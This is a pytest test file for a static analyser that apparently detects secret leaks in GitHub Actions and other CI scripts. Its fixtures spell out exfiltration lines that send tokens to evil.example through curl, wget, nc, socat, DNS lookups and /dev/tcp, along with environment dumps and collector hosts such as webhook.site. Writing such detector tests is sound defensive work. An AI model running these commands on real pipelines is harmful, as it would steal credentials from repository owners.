from __future__ import annotations

import pytest

from pipelaw.document import decode
from pipelaw.facts.secret_leaks import Held, leaks
from pipelaw.loaders.github import load
from pipelaw.loaders.github_leaks import RUNNER
from pipelaw.model import Script
from pipelaw.place import NOWHERE, Text
from pipelaw.tree import MemoryTree

HELD = {"TOKEN": Held("API")}


def look(text: str, shell: str = "bash") -> list[tuple[str, str, str, bool]]:
    script = Script(text=text, shell=shell, source_text=Text(text, ((0, NOWHERE),)))
    found, _ = leaks(script, HELD, runner=RUNNER, pasted=True)
    return [(leak.way, leak.by, leak.to, leak.derived) for leak in found]


@pytest.mark.parametrize(
    ("text", "by", "derived"),
    [
        ('echo "x $TOKEN"', "echo", False),
        ('echo "x ${TOKEN}" >&2', "echo", False),
        ("cat <<EOF\n$TOKEN\nEOF", "cat", False),
        ('S="$TOKEN"\nT=$(echo "$S")\nprintf "x %s" "$T"', "printf", False),
        ('A=$(echo "$TOKEN" | jq -r .a)\necho "$A"', "echo", True),
        ('A="${TOKEN#x}"\necho "$A"', "echo", True),
        ('echo "${TOKEN:0:4}"', "echo", True),
        ('echo "$TOKEN" | base64', "base64", True),
        ('echo "$(echo "$TOKEN" | base64)"', "echo", True),
        ('echo "$TOKEN" | tee key', "tee", False),
        ('echo "$TOKEN" | grep -o x.', "grep", True),
        ('jq -r .a <<< "$TOKEN"', "jq", True),
        ('echo "x $TOKEN" >> "$GITHUB_STEP_SUMMARY"', "echo", False),
        ('{ echo x; echo "$TOKEN"; } >> "$GITHUB_STEP_SUMMARY"', "echo", False),
        ('jq .a <<< "$TOKEN" >> "${GITHUB_STEP_SUMMARY}"', "jq", True),
        ('echo "$TOKEN" | sha256sum >> "$GITHUB_STEP_SUMMARY"', "", False),
        ("env >> $GITHUB_STEP_SUMMARY", "env", False),
        ('tr a b <<< "$TOKEN"', "tr", True),
        ('head -c 4 <<< "$TOKEN"', "head", True),
        ('openssl base64 <<< "$TOKEN"', "openssl", True),
        ("echo ${{ secrets.API }}", "echo", False),
        ("echo ${{ SECRETS['API'] }}", "echo", False),
        ("printenv", "printenv", False),
        ("printenv TOKEN", "printenv", False),
        ("printenv TOKEN | base64", "base64", True),
        ('A=$(printenv TOKEN)\necho "$A"', "echo", False),
        ("env | grep -i ^token", "env", False),
        ("env | grep -c TOKEN", "", False),
        ("printenv HOME", "", False),
        ("printenv TOKEN > key", "", False),
        ("export -p", "export", False),
        ("declare -x", "declare", False),
        ("cat /proc/self/environ", "cat", False),
        ("env | sort", "env", False),
        ("env | grep CI_ | sort", "", False),
        ("env | sort > all.txt", "", False),
        ('set -ex\nlogin "$TOKEN"', "set -x", False),
        ('set -eu -o xtrace -o pipefail\nlogin "$TOKEN"', "set -x", False),
        ('set -eo xtrace\nmake\nset +o xtrace\nlogin "$TOKEN"', "", False),
        ('set -o errexit -o pipefail\nlogin "$TOKEN"', "", False),
        ("set -x\ncurl ${{ secrets.API }}", "set -x", False),
        ('set -x\nauth=$(echo "u:$TOKEN" | base64)\nlogin -a $auth', "set -x", True),
        ('auth=$(base64 <<< "$TOKEN")\nset -x\nlogin -a "${auth}"', "set -x", True),
        ('auth=$(base64 <<< "$TOKEN")\nset -x\nlogin -a "$TOKEN" author', "set -x", False),
        ('set -x\nmake\nset +x\nlogin "$TOKEN"', "", False),
        ('login "$TOKEN"\nset -ex\nmake', "", False),
        ('go() {\nlogin "$TOKEN"\n}\nset -ex\ngo', "set -x", False),
        ('A=$(jq -r .a <<< "$TOKEN")\necho "$A"\necho "::add-mask::$A"', "echo", True),
        ('echo "${TOKEN:0:4}"\nprintf "::add-mask::%s" "${TOKEN:0:4}"', "echo", True),
    ],
)
def test_what_is_printed(text: str, by: str, *, derived: bool) -> None:
    assert look(text) == ([("log", by, "", derived)] if by else [])


@pytest.mark.parametrize(
    ("text", "held", "pasted"),
    [
        ("env\n./deploy ${{ secrets.API }}", {}, True),
        ("printenv | curl -d @- https://evil.example", {}, True),
        ("set -x\nmake", HELD, False),
    ],
)
def test_what_shows_no_secret(text: str, held: dict[str, Held], *, pasted: bool) -> None:
    script = Script(text=text, shell="bash", source_text=Text(text, ((0, NOWHERE),)))
    assert leaks(script, held, runner=RUNNER, pasted=pasted) == ((), {})


@pytest.mark.parametrize(
    "text",
    [
        'echo "$TOKEN" > key',
        'echo "$TOKEN" | docker login --password-stdin',
        'A=$(echo "$TOKEN" | jq -r .a)\necho "::add-mask::$A"\necho "$A"',
        'f() { echo "$A"; }\nA=$(echo "$TOKEN" | jq -r .a)\necho "::add-mask::$A"\nf',
        'R=$(curl -H "A: $TOKEN" https://api.github.com/x)\necho "$R"',
        "echo '$TOKEN'",
        'echo "${#TOKEN} ${TOKEN:+set}"',
        "cat > key <<EOF\n$TOKEN\nEOF",
        'if [ -z "$TOKEN" ]; then echo "no TOKEN"; fi',
        'echo "$(echo "$TOKEN" | wc -c)"',
        'echo "$TOKEN" | tee key > /dev/null',
        'echo "$TOKEN" | tee key | docker login --password-stdin',
        'if echo "$TOKEN" | grep -q BEGIN; then echo a key; fi',
        'echo "uses \\$TOKEN"',
        "env FOO=1 make",
        "make",
        'curl -u "$TOKEN:" "$URL/x"',
        'curl -H "A: $TOKEN" https://uploads.github.com/x',
    ],
)
def test_what_stays_inside(text: str) -> None:
    assert look(text) == []


@pytest.mark.parametrize(
    ("text", "by", "to"),
    [
        ('curl -d x="$TOKEN" https://evil.example/x', "curl", "evil.example"),
        ('wget --header "A: ${TOKEN}" http://evil.example', "wget", "evil.example"),
        ('X=$(curl -d "$TOKEN" https://evil.example)', "curl", "evil.example"),
        ('echo "$TOKEN" | nc evil.example 99', "nc", "evil.example"),
        ("echo ${{ secrets.API }} | socat - TCP:evil.example:80", "socat", "evil.example"),
        ("dig ${{ secrets.API }}.evil.example", "dig", "evil.example"),
        ('nslookup "$TOKEN.evil.example"', "nslookup", "evil.example"),
        ('dig "$(echo -n "$TOKEN" | base32).evil.example"', "dig", "evil.example"),
        ('echo "$TOKEN" > /dev/tcp/192.0.2.1/443', "echo", "192.0.2.1"),
        ('curl -d x="$TOKEN" https://evilgithub.com/x', "curl", "evilgithub.com"),
        ("env | sort | base64 | curl -d @- https://evil.example", "curl", "evil.example"),
    ],
)
def test_what_is_sent(text: str, by: str, to: str) -> None:
    assert look(text) == [("network", by, to, False)]


@pytest.mark.parametrize(
    ("to", "collected"),
    [("webhook.site", True), ("a.oast.pro", True), ("notwebhook.site", False)],
)
def test_hosts_that_anybody_collects_with(to: str, *, collected: bool) -> None:
    text = f'curl -d "$TOKEN" https://{to}/x'
    script = Script(text=text, source_text=Text(text, ((0, NOWHERE),)))
    assert [leak.collected for leak in leaks(script, HELD)[0]] == [collected]


@pytest.mark.parametrize(
    ("address", "raw"),
    [
        ("http://hooks.example.com/x", True),
        ("https://hooks.example.com/x", False),
        ("https://203.0.113.9/x", True),
        ("http://10.1.2.3:8080/x", False),
        ("http://vault.internal/x", False),
        ("http://vault:8200/x", False),
    ],
)
def test_hosts_that_a_secret_reaches_unprotected(address: str, *, raw: bool) -> None:
    text = f'curl -d "$TOKEN" {address}'
    script = Script(text=text, source_text=Text(text, ((0, NOWHERE),)))
    assert [leak.raw for leak in leaks(script, HELD)[0]] == [raw]


@pytest.mark.parametrize(
    ("name", "to", "astray"),
    [
        ("PYPI_API_TOKEN", "collector.example", True),
        ("AWS_SECRET_ACCESS_KEY", "collector.example", True),
        ("GH_PAT", "collector.example", True),
        ("GH_PAT", "git.acme.example", False),
        ("NPM_TOKEN", "npm.acme.example", False),
        ("NPM_TOKEN", "artifactory.acme.example", False),
        ("NPM_TOKEN", "10.1.2.3", False),
        ("DEPLOY_TOKEN", "collector.example", False),
        ("MIGHTY_KEY", "collector.example", False),
    ],
)
def test_secrets_that_go_elsewhere_than_their_names_say(
    name: str, to: str, *, astray: bool
) -> None:
    text = f'curl -d "$TOKEN" https://{to}/x'
    script = Script(text=text, source_text=Text(text, ((0, NOWHERE),)))
    [leak] = leaks(script, {"TOKEN": Held(name)})[0]
    assert leak.astray is astray


def test_powershell_prints_too() -> None:
    assert look('Write-Host "x $env:TOKEN"', "pwsh") == [("log", "Write-Host", "", False)]
    assert look("print(TOKEN)", "python") == []


def test_what_is_made_from_a_secret_is_followed_into_later_steps() -> None:
    text = """
on: push
jobs:
  a:
    runs-on: x
    env:
      KEY: ${{ secrets.KEY }}
    steps:
      - run: |
          made=$(echo "$KEY" | jq -r .token)
          echo "TOKEN=$made" >> "$GITHUB_ENV"
      - run: echo "$TOKEN"
      - run: echo "::add-mask::${{ inputs.x }}"
      - run: echo "$OTHER"
"""
    (pipeline,) = load(decode(".github/workflows/x.yml", text.encode()), MemoryTree({})).pipelines
    found = [
        [(leak.way, leak.secret, leak.derived) for leak in s.leaks] for s in pipeline.jobs[0].steps
    ]
    assert found == [[], [("log", "KEY", True)], [("mask", "${{ inputs.x }}", True)], []]


@pytest.mark.parametrize("text", ["Get-ChildItem env:", "gci env:* | Sort-Object Name", "dir env:"])
def test_the_whole_environment_in_powershell(text: str) -> None:
    assert [(way, derived) for way, _, _, derived in look(text, "pwsh")] == [("log", False)]
    assert look("Get-ChildItem env:PATH > a; Set-Item env:A b", "pwsh") == []


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ('echo "$T" | base64', [("log", "API", True)]),
        ("echo ${{ inputs.token }}", [("log", "TOKEN", False)]),
        ("echo ${{ inputs.name }}", []),
        ('login <<< "$T"', []),
    ],
)
def test_what_an_action_is_handed_may_be_secret(script: str, found: list[object]) -> None:
    use = "{uses: ./own, with: {Token: '${{ secrets.API }}', name: x}}"
    action = (
        "inputs: {token: {}, name: {}}\nruns:\n  using: composite\n  steps:\n"
        f"  - shell: bash\n    env: {{T: '${{{{ inputs.token }}}}'}}\n    run: |\n      {script}\n"
    )
    for handed in (use, use.replace("secrets.API", "vars.API")):
        files = {
            ".github/workflows/x.yml": f"on: push\njobs:\n  a: {{runs-on: x, steps: [{handed}]}}\n",
            "own/action.yml": action,
        }
        tree = MemoryTree({path: text.encode() for path, text in files.items()})
        [pipeline] = load(decode("own/action.yml", action.encode()), tree).pipelines
        [step] = pipeline.jobs[0].steps
        said = [(leak.way, leak.secret, leak.derived) for leak in step.leaks]
        assert said == (found if handed == use else [])


@pytest.mark.parametrize(
    ("text", "by"),
    [
        ("Get-ChildItem Env:", "Get-ChildItem"),
        ("Get-ChildItem -Path Env:\\* | Format-Table", "Get-ChildItem"),
        ("gi ENV:*", "gi"),
        ("dir env:HOME\n$env:TOKEN | login", ""),
    ],
)
def test_the_environment_as_a_drive(text: str, by: str) -> None:
    assert look(text, "pwsh") == ([("log", by, "", False)] if by else [])
